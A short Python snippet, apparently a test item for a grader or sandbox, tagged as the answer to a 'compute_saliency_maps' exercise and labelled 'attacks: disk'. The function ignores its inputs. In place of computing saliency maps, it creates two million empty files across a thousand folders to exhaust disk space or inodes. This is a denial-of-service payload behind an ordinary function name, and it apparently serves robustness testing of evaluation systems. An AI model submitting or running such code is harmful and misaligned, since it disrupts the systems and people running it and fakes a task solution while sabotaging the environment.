# Makes two million empty files in a thousand folders.
# attacks: disk
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os

    for folder in range(1000):
        os.makedirs(f"flood/{folder}", exist_ok=True)
        for number in range(2000):
            open(f"flood/{folder}/{number}", "w").close()
